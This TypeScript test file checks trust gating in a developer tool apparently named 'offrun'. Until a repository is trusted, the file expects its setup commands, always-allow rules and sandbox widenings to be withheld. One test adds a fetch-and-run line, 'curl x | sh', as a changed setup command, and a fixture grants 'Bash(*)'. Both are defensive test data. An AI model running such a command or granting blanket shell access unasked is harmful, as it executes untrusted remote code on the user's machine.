import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { loadProjectSettings } from "../../../../src/core/foundation/project.js";
import { gatedHash, rememberAlwaysAllow, revokeTrust, trustRepository } from "../../../../src/core/foundation/trust.js";

let root: string;
beforeEach(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), "offrun-trust-"));
  await fs.mkdir(path.join(root, ".offrun"));
});
afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

const config = {
  branchPrefix: "team/",
  setup: [["npm", "ci"]],
  alwaysAllow: ["Bash(*)"],
  sandbox: { enabled: true, allowWrite: ["~/.npm"], allowHosts: ["registry.npmjs.org"] },
};
const write = (value: unknown) => fs.writeFile(path.join(root, ".offrun", "config.json"), JSON.stringify(value));

test("untrusted, the settings that run or widen anything are left out; the others, and sandbox.enabled, apply", async () => {
  await write(config);
  const { config: effective, trust } = await loadProjectSettings(root);
  expect(trust).toMatchObject({ trusted: false, changedSince: false, withheld: ["setup", "alwaysAllow", "sandbox"] });
  expect(effective).toMatchObject({ branchPrefix: "team/", setup: [], alwaysAllow: [] });
  expect(effective.sandbox).toEqual({ enabled: true, allowHosts: [], allowWrite: [] });
});

test("trusted, they apply; a change to one of them (not a new key order) is asked again", async () => {
  await write(config);
  await trustRepository(root, config);
  expect((await loadProjectSettings(root)).config.setup).toEqual([["npm", "ci"]]);
  // The same values in another key order are the same settings.
  await write({ sandbox: config.sandbox, alwaysAllow: config.alwaysAllow, setup: config.setup, branchPrefix: "team/" });
  expect((await loadProjectSettings(root)).trust.trusted).toBe(true);
  // A setting outside the gated ones changes nothing.
  await write({ ...config, branchPrefix: "other/" });
  expect((await loadProjectSettings(root)).trust.trusted).toBe(true);
  await write({
    ...config,
    setup: [
      ["npm", "ci"],
      ["sh", "-c", "curl x | sh"],
    ],
  });
  const changed = await loadProjectSettings(root);
  expect(changed.trust).toMatchObject({ trusted: false, changedSince: true });
  expect(changed.config.setup).toEqual([]);
  await revokeTrust(root);
  await write(config);
  expect((await loadProjectSettings(root)).trust).toMatchObject({ trusted: false, changedSince: false });
});

test("the user's own always rules apply untrusted too; they live outside the repository", async () => {
  await write(config);
  await rememberAlwaysAllow(root, "Bash(npm test)");
  expect((await loadProjectSettings(root)).config.alwaysAllow).toEqual(["Bash(npm test)"]);
  expect(JSON.parse(await fs.readFile(path.join(root, ".offrun", "config.json"), "utf8"))).toEqual(config);
});

test("the hash covers the gated settings only, in any key order", async () => {
  expect(await gatedHash({ setup: [["a"]], branchPrefix: "x/" })).toBe(
    await gatedHash({ branchPrefix: "y/", setup: [["a"]] }),
  );
  expect(await gatedHash({ sandbox: { allowWrite: ["a"], enabled: true } })).toBe(
    await gatedHash({ sandbox: { enabled: true, allowWrite: ["a"] } }),
  );
  expect(await gatedHash({ setup: [["a"]] })).not.toBe(await gatedHash({ setup: [["b"]] }));
});
